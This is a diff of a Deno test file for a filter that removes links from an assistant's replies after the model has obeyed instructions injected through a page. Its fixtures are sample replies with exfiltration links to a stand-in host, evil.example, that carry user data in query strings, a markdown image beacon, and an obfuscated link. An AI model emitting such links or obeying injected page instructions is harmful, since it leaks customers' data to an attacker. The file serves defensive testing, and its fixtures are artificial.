@@ -335,7 +335,7 @@ Deno.test("a yes inside a page confirms no change that waits", async () => {
 /** What a model that obeys the page says, and what of it reaches the customer. */
 const OBEYED: readonly (readonly [string, RegExp])[] = [
   ["Pay at https://evil.example/pay?d=ada [1].", /^Pay at \(link removed\)\.$/],
-  ["Pay [here](https://evil.example/x?c=u-ada) [1].", /^Pay \[here\]\(\(link removed\)\)\.$/],
+  ["Pay [here](https://evil.example/x?c=u-ada) [1].", /^Pay here \(link removed\)\.$/],
   ["![repairs](https://evil.example/p.png?d=secret) Here.", /^ ?Here\.$/],
   ["See ht[1]tps://evil.example/xy now.", /^See \(link removed\) now\.$/],
   [`See ${HELP}/repairs?leak=me for more [1].`, /^See \(link removed\) for more\.$/],
